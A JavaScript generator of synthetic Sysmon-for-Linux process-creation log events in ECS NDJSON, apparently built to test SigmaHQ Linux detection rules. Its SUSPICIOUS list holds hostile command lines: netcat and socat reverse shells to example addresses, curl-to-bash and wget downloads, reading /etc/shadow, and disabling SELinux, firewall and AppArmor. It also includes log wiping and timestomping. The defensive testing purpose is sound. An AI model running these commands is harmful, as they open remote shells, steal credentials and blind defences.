// Sysmon-for-Linux process-creation events (event id 1) as the sysmon-linux reader normalizes
// them, written as ECS NDJSON: the ECS fields plus every EventData value under winlog.event_data,
// GUIDs and hashes included, so keyword rules meet what real records carry. Deterministic: same
// seed, same file. About 3% of the events are what SigmaHQ Linux rules look for.
import { prng } from './events.mjs';

const pick = (r, xs) => xs[Math.floor(r() * xs.length)];
const hex = (r, n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
const guid = (r) => `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`;

const BENIGN = [
  '/usr/bin/ls -la /var/log',
  '/usr/bin/cat /srv/app/VERSION',
  '/usr/bin/grep -r error /var/log/app',
  '/usr/bin/python3 /opt/app/worker.py --queue default',
  '/usr/local/bin/node /srv/api/server.js',
  '/usr/bin/curl -s http://localhost:8080/healthz',
  '/usr/bin/bash -c echo ok',
  '/usr/bin/sh -c date +%s',
  '/usr/sbin/nginx -g daemon off;',
  '/usr/bin/ps aux',
  '/usr/bin/find /tmp -name *.log -mtime +7',
  '/usr/bin/tar -czf /backup/app.tgz /srv/app',
  '/usr/bin/git pull --ff-only',
  '/usr/bin/java -Xmx512m -jar /opt/svc/app.jar',
  '/usr/bin/sleep 30',
  '/usr/bin/awk {print $1} /var/log/access.log',
  '/usr/bin/sed -i s/foo/bar/ /srv/app/app.conf',
  '/usr/bin/systemctl status nginx',
  '/usr/sbin/logrotate /etc/logrotate.conf',
  '/usr/bin/du -sh /var/lib/docker',
];
// Spellings the SigmaHQ linux process_creation and keyword rules look for.
const SUSPICIOUS = [
  '/usr/bin/base64 -d /tmp/.x',
  '/usr/bin/chmod +x /tmp/.hidden/kworker',
  '/usr/bin/wget http://203.0.113.9/x.sh -O /tmp/x.sh',
  '/usr/bin/crontab -l',
  '/usr/bin/nc -e /bin/sh 10.0.0.5 4444',
  '/usr/bin/whoami',
  '/usr/bin/id',
  '/usr/bin/uname -a',
  '/usr/sbin/setenforce 0',
  '/usr/sbin/ufw disable',
  '/usr/bin/cat /etc/shadow',
  '/usr/bin/python3 -c import pty; pty.spawn("/bin/bash")',
  '/usr/bin/python3 -m http.server 8000',
  '/usr/bin/touch -t 202001010000 /usr/bin/ls',
  '/usr/bin/systemctl stop apparmor',
  '/usr/bin/rm -rf /var/log/syslog',
  '/usr/bin/history -c',
  '/usr/bin/curl -s http://203.0.113.9/p | /usr/bin/bash',
  '/usr/bin/socat exec:/bin/bash tcp:203.0.113.9:443',
  '/usr/bin/chattr -i /etc/passwd',
];
const USERS = ['root', 'app', 'www-data', 'postgres', 'ubuntu'];
const T0 = Date.UTC(2026, 2, 4, 5, 0, 0);

function event(r, i) {
  const line = r() < 0.03 ? pick(r, SUSPICIOUS) : pick(r, BENIGN);
  const image = line.split(' ')[0];
  const parentLine = pick(r, BENIGN);
  const parent = parentLine.split(' ')[0];
  const pid = 1000 + Math.floor(r() * 60000);
  const ppid = Math.max(1, pid - 1 - Math.floor(r() * 50));
  const user = pick(r, USERS);
  const host = `node-${Math.floor(r() * 8)}`;
  const ts = new Date(T0 + i * 3).toISOString();
  const pguid = guid(r);
  const parentGuid = guid(r);
  const logonId = '0x' + Math.floor(r() * 1000).toString(16);
  const data = {
    RuleName: '-',
    UtcTime: ts.replace('T', ' ').replace('Z', ''),
    ProcessGuid: pguid,
    ProcessId: String(pid),
    Image: image,
    FileVersion: '-',
    Description: '-',
    Product: '-',
    Company: '-',
    OriginalFileName: '-',
    CommandLine: line,
    CurrentDirectory: pick(r, ['/', '/root', '/srv/app', '/tmp', '/home/ubuntu']),
    User: user,
    LogonGuid: guid(r),
    LogonId: logonId,
    TerminalSessionId: String(Math.floor(r() * 4)),
    IntegrityLevel: 'no level',
    Hashes: `SHA256=${hex(r, 64).toUpperCase()}`,
    ParentProcessGuid: parentGuid,
    ParentProcessId: String(ppid),
    ParentImage: parent,
    ParentCommandLine: parentLine,
    ParentUser: pick(r, USERS),
  };
  return {
    '@timestamp': ts,
    event: {
      kind: 'event',
      module: 'sysmon',
      dataset: 'sysmon.linux',
      code: '1',
      provider: 'Linux-Sysmon',
      action: 'process-created',
      category: ['process'],
      type: ['start'],
    },
    stowaway: { source: 'sysmon', logsource: { product: 'linux', category: 'process_creation', service: 'sysmon' } },
    host: { name: host, os: { type: 'linux' } },
    winlog: {
      event_id: 1,
      channel: 'Linux-Sysmon/Operational',
      provider_name: 'Linux-Sysmon',
      computer_name: host,
      record_id: String(100000 + i),
      event_data: data,
    },
    process: {
      pid,
      entity_id: pguid,
      executable: image,
      name: image.split('/').pop(),
      command_line: line,
      args: line.split(' '),
      working_directory: data.CurrentDirectory,
      user: { name: user },
      hash: { sha256: data.Hashes.slice(7) },
      parent: { pid: ppid, entity_id: parentGuid, executable: parent, name: parent.split('/').pop(), command_line: parentLine },
      ppid,
    },
    user: { name: user },
  };
}

/** `n` events as NDJSON lines (an array of strings). */
export function peerProcessLines(n, seed = 14) {
  const r = prng(seed);
  const out = new Array(n);
  for (let i = 0; i < n; i++) out[i] = JSON.stringify(event(r, i));
  return out;
}
